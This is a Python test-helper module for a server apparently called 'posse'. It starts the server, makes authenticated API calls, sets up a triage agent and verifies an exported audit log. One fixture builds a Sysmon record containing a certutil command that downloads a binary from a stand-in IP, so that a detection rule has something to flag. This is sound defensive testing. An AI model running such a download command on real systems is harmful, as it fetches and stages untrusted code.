"""A running server and calls to it, for the scripts that kill servers. Must never retry a call by itself."""
import http.client, json, os, pathlib, re, signal, subprocess, sys, threading, time

ROOT = pathlib.Path(__file__).resolve().parents[1]


def binary():
    """The program under test: `POSSE_BIN`, else a release build made now."""
    given = os.environ.get("POSSE_BIN")
    if given:
        return given
    subprocess.run(["cargo", "build", "--quiet", "--locked", "--release", "-p", "posse"], cwd=ROOT, check=True)
    target = os.environ.get("CARGO_TARGET_DIR") or os.path.expanduser("~/.cache/posse/target")
    return f"{target}/release/posse"


class Server:
    """`posse serve` on a free port; `before` are words that it is started through, such as a tracer's."""

    started = []

    def __init__(self, program, folder, before=()):
        self.port = None
        Server.started.append(self)
        self.process = subprocess.Popen([*before, program, "serve", "--data-dir", folder, "--listen", "127.0.0.1:0"],
                                        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, start_new_session=True)
        for line in self.process.stdout:
            found = re.match(r"listening on http://127\.0\.0\.1:(\d+)", line)
            if found:
                self.port = int(found.group(1))
                break
        if self.port is None and not before:
            sys.exit("the server ended before it listened")
        threading.Thread(target=lambda: [None for _ in self.process.stdout], daemon=True).start()

    def kill(self, how):
        """Send a signal to it, and to what it was started through, and wait for the end."""
        os.killpg(self.process.pid, how)
        self.process.wait()

    @staticmethod
    def end_all():
        """Leave none behind, however the script ends."""
        for server in Server.started:
            if server.process.poll() is None:
                server.kill(signal.SIGKILL)


def send(port, token, method, path, body=None, kind="application/json", timeout=60):
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=timeout)
    if body is not None and not isinstance(body, str):
        body = json.dumps(body)
    try:
        credential = {"authorization": f"Bearer {token}"} if token else {}
        connection.request(method, path, body, {"content-type": kind, **credential})
        answer = connection.getresponse()
        text = answer.read()
    finally:
        connection.close()
    return answer.status, json.loads(text) if text else None


def done(port, token, method, path, body=None):
    status, told = send(port, token, method, path, body)
    assert status == 200, (method, path, status, told)
    return told


def pages(port, token, path):
    items, cursor = [], ""
    while True:
        page = done(port, token, "GET", f"{path}&limit=100{cursor}")
        items += page["items"]
        if not page.get("next_cursor"):
            return items
        cursor = f"&cursor={page['next_cursor']}"


def until(what, look, secs=120):
    """Look until nothing is missing."""
    end = time.monotonic() + secs
    while True:
        missing = look()
        if not missing:
            return
        assert time.monotonic() < end, f"{what}: {missing}"
        time.sleep(0.3)


def certutil(number):
    """A Sysmon record that a shipped rule finds, on a host of its own."""
    return {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Hostname": f"host{number}",
            "UtcTime": time.strftime("%Y-%m-%d %H:%M:%S.000", time.gmtime()), "ProcessGuid": f"{{{number}}}",
            "Image": "C:\\Windows\\System32\\certutil.exe", "User": f"CORP\\user{number}",
            "CommandLine": f"certutil.exe -urlcache -f http://203.0.113.9/{number}.bin p.exe"}


def with_triage(port, token, source):
    """A tenant with a source and an agent that every case wakes; the tenant's id and the source's key."""
    tenant = done(port, token, "POST", "/v1/tenants", {"name": source})["id"]
    done(port, token, "POST", f"/v1/tenants/{tenant}/sources", {"name": source})
    key = done(port, token, "POST", f"/v1/tenants/{tenant}/sources/{source}/keys", {"name": source})["credential"]["secret"]
    me = done(port, token, "GET", "/v1/me")["principal"]
    agent = done(port, token, "POST", "/v1/agents", {"name": "triage", "purpose": "judges", "owner": me})["id"]
    done(port, token, "PUT", f"/v1/agents/{agent}/charter", {})
    done(port, token, "POST", f"/v1/agents/{agent}/activate", {})
    done(port, token, "POST", "/v1/assignments", {"principal": agent, "role": "investigator"})
    return tenant, key


def audit_holds(program, port, token, folder):
    """Export the log and verify it offline."""
    environment = {**os.environ, "POSSE_URL": f"http://127.0.0.1:{port}", "POSSE_TOKEN": token}
    out = lambda *words: subprocess.run([program, *words], env=environment, check=True, capture_output=True, text=True).stdout
    pathlib.Path(folder, "key").write_text(out("audit", "key"))
    out("audit", "export", "--out", f"{folder}/log")
    out("audit", "verify", f"{folder}/log", "--key", f"{folder}/key")
